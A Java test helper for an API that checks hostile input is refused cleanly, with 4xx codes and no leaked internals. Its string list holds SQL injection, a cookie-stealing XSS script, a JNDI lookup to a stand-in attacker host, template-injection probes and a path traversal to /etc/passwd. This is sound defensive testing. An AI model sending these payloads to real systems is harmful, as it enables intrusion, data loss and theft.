package io.mosaic.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import io.restassured.response.Response;
import java.net.SocketException;
import java.util.List;
import java.util.function.Supplier;

/** Hostile strings, and what a clean refusal of hostile input looks like. */
final class Refusals {
    private Refusals() {}

    /** SQL, script, template, path and format-string fragments, and unicode that trips careless code. */
    static final List<String> HOSTILE_STRINGS = List.of(
            "'; drop table profiles; --",
            "\" or 1=1 --",
            "<script>alert(document.cookie)</script>",
            "${jndi:ldap://attacker.example/a}",
            "#{7*7}{{7*7}}",
            "../../../../etc/passwd",
            "%s%s%s%n%x",
            "\u0000nul inside",
            "\ud800 lone surrogate",
            "\u202eright-to-left override",
            "zero\u200bwidth\ufeffbom",
            "emoji 👩‍👩‍👧‍👦 and 𝕄𝕠𝕤𝕒𝕚𝕔",
            "x".repeat(100_000));

    /** The response, or null when the server closed the connection on an oversized request while it was sent. */
    static Response orClosed(Supplier<Response> call) {
        try {
            return call.get();
        } catch (Exception e) { // RestAssured throws the SocketException itself, undeclared
            if (e instanceof SocketException || e.getCause() instanceof SocketException) {
                return null;
            }
            throw e;
        }
    }

    static void assertRefusedOrClosed(Response response, String what) {
        if (response != null) {
            assertThat(response.statusCode()).as(what).isIn(400, 401, 413, 431);
            assertNoInternals(response, what);
        }
    }

    static void assertRefusedCleanly(Response response, String what) {
        assertThat(response.statusCode())
                .as(what + ": " + abbreviated(response.asString()))
                .isBetween(400, 499);
        assertNoInternals(response, what);
        if (!response.asString().isEmpty()) {
            assertThat(response.contentType()).as(what).startsWith("application/problem+json");
        }
    }

    /** Nothing of the implementation leaks: no stack frames, exception class names or SQL. */
    static void assertNoInternals(Response response, String what) {
        String body = response.asString();
        assertThat(body)
                .as(what)
                .doesNotContain(
                        "\tat ",
                        "at io.",
                        "at java.",
                        "at org.",
                        ".java:",
                        "Exception",
                        "SQLState",
                        "org.postgresql",
                        "com.fasterxml");
    }

    static String abbreviated(String text) {
        return text.length() <= 60 ? text : text.substring(0, 60) + "… (" + text.length() + " chars)";
    }
}
